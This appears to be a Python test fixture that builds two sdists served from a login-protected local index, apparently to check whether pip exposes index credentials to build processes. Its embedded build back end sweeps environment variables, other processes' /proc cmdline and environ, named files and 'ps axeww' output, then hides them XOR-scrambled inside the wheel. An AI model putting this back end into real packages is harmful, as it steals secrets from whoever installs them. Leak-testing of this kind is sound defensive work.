"""An sdist whose build looks for a secret wherever it may lie and brings what it found home in its wheel, scrambled, for some of it are decoys: the sink is what is
installed."""
from __future__ import annotations

from contextlib import contextmanager
from pathlib import Path

from . import packages
from .index import Index

# A build back end of its own: gather() reads what there is, with no word about what could not be read.
BACK_END = r'''
import glob, os, subprocess, zipfile

NAME = "@NAME@"
INFO = NAME + "-1.0.dist-info"
META = "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % NAME


def read(path):
    try:
        with open(path, "rb") as stream:
            return stream.read(1 << 20)
    except OSError as e:
        return b"(%d)" % (e.errno or 0)


def processes():
    me = os.getpid()
    try:
        found = {int(n) for n in os.listdir("/proc") if n.isdigit()}
    except OSError:
        found = set()
    return sorted(found | set(range(max(1, me - 300), me + 50)) | {1, os.getppid()})


def gather():
    found = [b"the sweep of %s" % NAME.encode()]
    found += [k + b"=" + v for k, v in os.environb.items()]
    for pid in processes():
        for name in ("cmdline", "environ", "task/%d/cmdline" % pid):
            content = read("/proc/%d/%s" % (pid, name))
            if not content.startswith(b"("):
                found.append(b"%d %s " % (pid, name.encode()) + content)
    for place in os.environ.get("PWT_PLACES", "").split(":"):
        if place:
            found.append(place.encode() + b" " + read(place))
    for command in (["ps", "axeww"], ["sh", "-c", "cat /proc/[0-9]*/cmdline"]):
        try:
            found.append(subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=20).stdout)
        except (OSError, subprocess.SubprocessError):
            pass
    try:
        import pwinner
        found.append(pwinner.FOUND)
    except ImportError:
        pass
    return b"\n".join(found)


def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = NAME + "-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as z:
        z.writestr(NAME + ".py", "FOUND = bytes(b ^ 0x55 for b in %r)\n" % bytes(b ^ 0x55 for b in gather()))
        z.writestr(INFO + "/METADATA", META)
        z.writestr(INFO + "/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr(INFO + "/RECORD", "")
    return name
'''


def _sdist(folder: Path, name: str, requires: str) -> None:
    packages.sdist(folder, name, "1.0", {
        "pyproject.toml": f'[build-system]\nrequires = [{requires}]\nbuild-backend = "sweep"\nbackend-path = ["."]\n',
        "sweep.py": BACK_END.replace("@NAME@", name)})


def sdists(folder: Path) -> Path:
    """pwsweep needs pwinner for its build, an sdist too: that one is built by the pip that pip starts, while both run."""
    _sdist(folder, "pwinner", "")
    _sdist(folder, "pwsweep", '"pwinner"')
    return folder


@contextmanager
def served(folder: Path, login: str, password: str):
    """An index of them, and of a pure wheel, that wants this login."""
    packages.pure_wheel(sdists(folder))
    with Index(folder) as index:
        index.ask_for(login, password)
        yield index


def found(site_packages: Path) -> bytes:
    """What pwsweep's build and that of its requirement brought home."""
    scope: dict = {}
    exec((site_packages / "pwsweep.py").read_text(), scope)
    content = scope["FOUND"]
    assert b"the sweep of pwsweep" in content and b"the sweep of pwinner" in content and b"PATH=" in content, "the sweep itself has failed"
    return content
